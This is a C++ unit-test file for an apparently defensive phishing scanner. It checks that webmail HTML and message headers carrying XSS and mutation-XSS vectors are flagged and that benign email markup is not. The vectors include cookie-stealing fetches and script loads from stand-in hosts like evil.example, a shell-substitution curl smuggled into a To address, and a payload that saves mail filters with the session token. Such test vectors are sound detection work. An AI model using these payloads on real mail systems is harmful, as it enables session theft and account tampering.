// Active sinks by class: vectors of our own for each trick that webmail clients fell for, and honest HTML beside them.
#include <gtest/gtest.h>

#include <chrono>
#include <string>
#include <vector>

#include "phishing/html/tree.h"
#include "phishing/verdict.h"
#include "phishing/webmail/message.h"
#include "phishing/webmail/sinks.h"

namespace tocsin::phishing {
namespace {

bool found(std::string_view html, Grade grade = Grade::active) {
  SinkList list;
  list.html(html);
  return list.found(grade);
}

TEST(Sinks, EachClassOfVectorIsFound) {
  static constexpr std::string_view kVectors[] = {
      R"h(<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=alert)h"
      R"h((origin) foo=bar">Foo</body>)h",
      R"h(<svg><animate attributeName="xlink:href " values="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2Ny)h"
      R"h(aXB0Pg==" href="#l"/></svg>)h",
      R"h(<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>)h",
      R"h(<noscript><p title="</noscript><img src=x onerror=alert(1)>">)h",
      R"h(<svg><style><a alt="</style><img src onerror=alert(1)>"></style></svg>)h",
      R"h(<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">)h",
      R"h(<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>)h",
      R"h(<details open ontoggle=eval(atob('YWxlcnQoMSk='))>)h",
      R"h(<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">)h",
      R"h(<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>)h",
      R"h(<iframe src="java&#9;script:alert(1)"></iframe>)h",
      R"h(<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>)h",
      R"h(<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD)h"
      R"h(0iYWxlcnQoMSkiLz4=">)h",
      R"h(<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">)h",
      R"h(<meta http-equiv=refresh content="0; url='javascript:alert(1)'">)h",
      R"h(<form action="javascript:alert(1)"><input type=submit></form>)h",
      R"h(<button formaction=javascript:alert(1)>x</button>)h",
      R"h(<a href="javascript&colon;alert(1)">x</a>)h",
      R"h(<a href="&#1;javascript:alert(1)">x</a>)h",
      R"h(<a href=" javascript://%0aalert(1)">x</a>)h",
      R"h(<div style="width:expression(alert(1))">)h",
      R"h(<div style="width:e\78pression(alert(1))">)h",
      R"h(<div style="width:exp/**/ression(alert(1))">)h",
      R"h(<style>@import 'javascript:alert(1)';</style>)h",
      R"h(<style>*{-moz-binding:url(http://evil.example/x.xml#a)}</style>)h",
      R"h(<div style="behavior:url(http://evil.example/x.htc)">)h",
      R"h(<style>input[value^="a"]{background:url(https://e.example/a)}input[value^="b"]{background:url(https:)h"
      R"h(//e.example/b)}</style>)h",
      R"h(<link rel=stylesheet href="javascript:alert(1)">)h",
      R"h(<svg onload=alert(1)>)h",
      R"h(<svg/onload=alert`1`>)h",
      R"h(<video><source onerror="alert(1)"></video>)h",
      R"h(<marquee onstart=alert(1)>x</marquee>)h",
      R"h(<input autofocus onfocus=alert(1)>)h",
      R"h(<select autofocus onfocus=alert(1)>)h",
      R"h(<x onpointerrawupdate=fetch('//e.example?'+document.cookie)>hi</x>)h",
      R"h(<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>)h",
      R"h(<svg><image href="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</)h"
      R"h(script></svg>"></image></svg>)h",
      R"h(<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>)h",
      R"h(<svg><set attributeName=onmouseover to=alert(1)></svg>)h",
      R"h(<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>)h",
      R"h(<scr<script>ipt>alert(1)</script>)h",
      R"h(<img """><script>alert("XSS")</script>">)h",
      R"h(<a href="jav&#x0A;ascript:alert('XSS');">x</a>)h",
      R"h(<img src="x` `<script>alert(1)</script>"` `>)h",
      R"h(+ADw-script+AD4-alert(1)+ADw-/script+AD4-)h",
      R"h(<xss style="xss:expression(alert('XSS'))">)h",
      R"h(<!--[if gte IE 4]><script>alert('XSS');</script><![endif]-->)h",
      R"h(<base href="javascript:alert(1);//">)h",
      R"h(<div background="javascript:alert(1)">)h",
      R"h(<table background="javascript:alert(1)">)h",
      R"h(<img lowsrc="javascript:alert(1)">)h",
      R"h(<bgsound src="javascript:alert(1)">)h",
      R"h(<isindex action="javascript:alert(1)" type=image>)h",
      R"h(<a href="https://mail.gov.example/m/momoveto?st=%22%3E%3Cscript%3Ealert(1)%3C/script%3E">view</a>)h",
      R"h(<script src=//evil.example/x.js></script>)h",
      R"h(<script>fetch('https://e.example/?c='+document.cookie)</script>)h",
      R"h(<title><style><img src=x onerror=alert(1)></title>)h",
      R"h(<textarea></textarea><img src=x onerror=alert(1)></textarea>)h",
      R"h(<xml:script xmlns:xml="http://www.w3.org/1999/xhtml">alert(1)</xml:script>)h",
      R"h(<svg xmlns="http://www.w3.org/2000/svg"><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x)h"
      R"h(:script></svg>)h",
      R"h(<a href="feed:javascript:alert(1)">x</a>)h",
      R"h(<p title='"onmouseover=alert(1) x="'>hover</p>)h",
      R"h(<img src='x"onerror=alert(1) y="'>)h",
      R"h(<img alt="<x" title="/><img src=url404 onerror=alert(1)>">)h",
      R"h(<a href="https://e.example" onclick="import('//e.example/x.js')">x</a>)h",
      R"h(<body/onload=setTimeout('ale'+'rt(1)')>)h",
      R"h(<img src=x onerror=window['al'+'ert'](1)>)h",
      R"h(<img src=x onerror=\u0061lert(1)>)h",
      R"h(<img src=x onerror="location='jav'+'ascript:alert(1)'">)h",
      R"h(<a href="jajavascript:vascript:alert(1)">x</a>)h",
      R"h(<div style="background:url(&quot;javascript:alert(1)&quot;)">)h",
      R"h(<embed src="javascript:alert(1)">)h",
      R"h(<frameset onload=alert(1)>)h",
      R"h(<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">CLICK</maction></math>)h",
      R"h(<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>)h",
      R"h(<div id="x"><style>@keyframes a{}</style><b style="animation-name:a" onanimationend="alert(1)"></b><)h"
      R"h(/div>)h",
      R"h(<input type=image src=x onerror=prompt(1)>)h",
      R"h(<img src="cid:x" onload="rcmail.command('logout')">)h",
      R"h(<img src=x onerror=&#x22;&#x22;;top.location=1>)h",
  };
  for (const std::string_view vector : kVectors) EXPECT_TRUE(found(vector)) << vector;
}

TEST(Sinks, HonestMarkupIsLeftAlone) {
  static constexpr std::string_view kHonest[] = {
      R"h(<a href="javascript:void(0)">x</a>)h",
      R"h(<a href="#" onclick="return false;">x</a>)h",
      R"h(<a href="https://x.example" onclick="window.open('https://x.example/a','_blank'); return false">x</a>)h",
      R"h(<img src="https://x.example/a.png" onerror="this.style.display='none'">)h",
      R"h(<img src="https://x.example/a.png" onmouseover="this.src='https://x.example/b.png'" onmouseout="this)h"
      R"h(.src='https://x.example/a.png'">)h",
      R"h(<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:w="urn:schemas-microsoft-com)h"
      R"h(:office:word" href="https://x.example" style="height:40px;v-text-anchor:middle;width:200px;" arcsize)h"
      R"h(="10%" stroke="f" fillcolor="#d62828"><w:anchorlock/><center>Go</center></v:roundrect><![endif]-->)h",
      R"h(<style>v\:* {behavior:url(#default#VML);} o\:*{behavior:url(#default#VML);}</style>)h",
      R"h(<style>@import url('https://fonts.googleapis.com/css?family=Open+Sans');@media only screen and (max-)h"
      R"h(width:600px){.a{width:100%!important}}</style>)h",
      R"h(<style>a[x-apple-data-detectors]{color:inherit!important} u + .body .gwfw{display:block} a[href^="te)h"
      R"h(l"]{color:#fff} [class*="col"]{width:100%}</style>)h",
      R"h(<script type="application/ld+json">{"@context":"http://schema.org","@type":"EmailMessage","potential)h"
      R"h(Action":{"@type":"ViewAction","url":"https://x.example"}}</script>)h",
      R"h(<html amp4email><head><script async src="https://cdn.ampproject.org/v0.js"></script><style amp4email)h"
      R"h(-boilerplate>body{visibility:hidden}</style></head><body></body></html>)h",
      R"h(<p>Use the &lt;script&gt;alert(1)&lt;/script&gt; tag</p>)h",
      R"h(<td title="He said &quot;hi&quot; on = off">x</td>)h",
      R"h(<a href="https://c.example/track?u=https%3A%2F%2Fx.example%2F%3Fa%3D1%26b%3D2&amp;s=abc">x</a>)h",
      R"h(<div style="width:expression(document.body.clientWidth > 600 ? '600px' : 'auto')">x</div>)h",
      R"h(<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9)h"
      R"h(Ik0wIDAiLz48L3N2Zz4=">)h",
      R"h(<svg viewBox="0 0 10 10"><defs><linearGradient id="g"/></defs><use href="#g"/><animate attributeName)h"
      R"h(="opacity" values="0;1" dur="1s"/></svg>)h",
      R"h(<link href="https://fonts.googleapis.com/css?family=Roboto" rel="stylesheet">)h",
      R"h(<a href="mailto:a@b.example?subject=Re:%20%22Hello%22&body=x">x</a>)h",
      R"h(<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;a=s.createElement(o);a.async=1;a.src=g)h"
      R"h(;})(window,document,'script','//www.google-analytics.com/analytics.js','ga');ga('send','pageview');<)h"
      R"h(/script>)h",
      R"h(<a href="https://x.example/q?name=O'Brien&on=1">x</a>)h",
      R"h(<noscript><img height="1" width="1" src="https://www.facebook.com/tr?id=1&ev=PageView"></noscript>)h",
      R"h(<font onload="">x</font>)h",
      R"h(<a href="data:text/calendar;charset=utf8,BEGIN:VCALENDAR">ics</a>)h",
      R"h(<a href="x-apple-data-detectors://0">x</a>)h",
      R"h(<img alt="5 < 6 and onions = good" src="https://x.example/i.png">)h",
      R"h(<a title="code: <b onclick=foo>" href="https://x.example/">x</a>)h",
      R"h(<base href="https://www.example.org/"><base target="_blank">)h",
      R"h(<meta http-equiv="refresh" content="30">)h",
      R"h(<body onload="window.print()">)h",
      R"h(<a href="https://x.example/?html=%3Cb%3Ebold%3C%2Fb%3E">x</a>)h",
  };
  for (const std::string_view honest : kHonest) {
    SinkList list;
    list.html(honest);
    for (const Sink& sink : list.sinks())
      EXPECT_EQ(sink.grade, Grade::leftover) << honest << "\n" << sink.where << " " << sink.what;
  }
}

std::vector<Sink> of_message(std::string raw) {
  for (std::size_t at = 0; (at = raw.find('\n', at)) != std::string::npos; at += 2) raw.replace(at, 1, "\r\n");
  const mime::Message message = mime::parse(raw);
  std::vector<Sink> sinks = webmail_sinks(message);
  std::erase_if(sinks, [](const Sink& sink) { return sink.grade == Grade::leftover; });
  return sinks;
}

TEST(Sinks, FieldsThatBecomeMarkup) {
  EXPECT_FALSE(of_message("From: a@b.example\nSubject: <img src=x onerror=alert(1)>\n\nhello\n").empty());
  EXPECT_FALSE(of_message("From: \"<svg onload=alert(1)>\" <a@b.example>\nSubject: x\n\nhello\n").empty());
  EXPECT_FALSE(
      of_message(
          "From: a@b.example\nX-Zimbra-Calendar-Intended-For: \"><script>alert(document.cookie)</script>\n\nhello\n")
          .empty());
  EXPECT_FALSE(of_message("From: a@b.example\nTo: \"aaa$(curl${IFS}evil.example)\"@mail.example\n\nhello\n").empty());
  EXPECT_FALSE(of_message("From: a@b.example\nContent-Type: application/octet-stream; name=\"x\\\"><img src=x "
                          "onerror=alert(1)>.txt\"\nContent-Disposition: attachment\n\nAAAA\n")
                   .empty());
  EXPECT_FALSE(
      of_message(
          "From: a@b.example\nContent-Type: text/calendar\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nDESCRIPTION:<details open "
          "ontoggle=eval(atob('YWxlcnQoMSk='))\n >\nEND:VEVENT\nEND:VCALENDAR\n")
          .empty());
  EXPECT_FALSE(of_message("From: a@b.example\nContent-Type: text/plain\n\nsee [x<script>alert(1)</script>] and\n[x]: "
                          "https://b.example\n")
                   .empty());
  EXPECT_FALSE(of_message("From: a@b.example\nContent-Type: text/plain\n\nhttps://b.example/\"onmouseover=\"alert(1)\n")
                   .empty());
  EXPECT_FALSE(of_message("From: a@b.example\nContent-Type: text/xml; name=x.xml\nContent-Disposition: "
                          "attachment\n\n<x><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script></x>\n")
                   .empty());
}

TEST(Sinks, TalkAboutMarkupIsNoMarkup) {
  EXPECT_TRUE(of_message("From: a@b.example\nSubject: how do we escape <script> in titles?\n\nhello\n").empty());
  EXPECT_TRUE(of_message("From: a@b.example\nSubject: x\n\nThe page shows <script>alert(1)</script>, see [1] and [the "
                         "wiki].\n\n[1]: https://b.example/?online=1&once=a.b\n")
                  .empty());
  EXPECT_TRUE(
      of_message("From: Alice <a@b.example>\nReferences: <CAF+onload=x@mail.example>\nSubject: only=once\n\nhello\n")
          .empty());
}

TEST(Sinks, WhatTheScriptIsAfterIsNamed) {
  const auto sinks = of_message(
      "From: a@b.example\nContent-Type: text/html\n\n<img src=x "
      "onerror=\"fetch('/"
      "?_task=settings&_action=plugin.managesieve-save&_token='+rcmail.env.request_token+document.cookie)\">\n");
  ASSERT_FALSE(sinks.empty());
  bool cookies = false, filters = false;
  for (const Sink& sink : sinks) {
    for (const auto one : sink.abilities) cookies |= one == "reads cookies";
    for (const auto one : sink.aims) filters |= one.find("filters") != std::string_view::npos;
  }
  EXPECT_TRUE(cookies);
  EXPECT_TRUE(filters);
}

// What a browser's algorithm would answer with quadratic work.
TEST(Sinks, HostileHtmlTakesBoundedTime) {
  const auto many = [](std::string_view piece, std::size_t count) {
    std::string out;
    out.reserve(piece.size() * count);
    for (std::size_t i = 0; i < count; ++i) out += piece;
    return out;
  };
  std::string attributes = "<a ", formatting, numbered;
  for (int i = 0; i < 100'000; ++i) attributes += "a" + std::to_string(i) + "=<b ";
  for (int i = 0; i < 5'000; ++i) formatting += "<b x=" + std::to_string(i) + ">";
  for (int i = 0; i < 20'000; ++i) numbered += "<i title='<b onclick=f" + std::to_string(i) + "()'>";
  const std::string hostile[] = {many("<div>", 400'000),
                                 many("<div>", 100'000) + many("</p>", 200'000),
                                 attributes + "><img src=x onerror=alert(1)>",
                                 formatting + many("<p>x", 100'000),
                                 many("&#x6a;", 400'000),
                                 "<a href=\"" + many("&Tab;", 400'000) + "javascript:alert(1)\">",
                                 many("<svg><math><style><!--", 60'000),
                                 many("<table><tr><td>", 60'000),
                                 many("<!--", 500'000),
                                 "<style>" + many("a{b:url(", 200'000),
                                 numbered,
                                 many("<iframe srcdoc=\"", 50'000),
                                 many("\"'<", 500'000),
                                 "<script>" + many("eval(atob('YWxlcnQoMSk='));", 60'000)};
  for (const std::string& one : hostile) {
    const auto start = std::chrono::steady_clock::now();
    found(one);
    const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    EXPECT_LT(seconds, 20) << one.substr(0, 40);
  }
  EXPECT_TRUE(found(hostile[2])) << "what stands behind hostile markup is still read";
}

TEST(HtmlTree, IsFlatAndInOrder) {
  const HtmlTree tree = HtmlTree::parse("<p>one<b>two</b></p><SVG><a XLINK:href='x&amp;y'>t</a></svg>");
  std::string names;
  for (const HtmlNode& node : tree.nodes())
    if (node.kind == HtmlNode::Kind::element) names += std::string(node.name) + " ";
  EXPECT_EQ(names, " html head body p b svg a ");
  for (const HtmlNode& node : tree.nodes())
    if (node.name == "a") {
      EXPECT_EQ(tree.value(node, "xlink:href"), "x&y");
      EXPECT_EQ(node.space, Space::svg);
    }
}

}  // namespace
}  // namespace tocsin::phishing
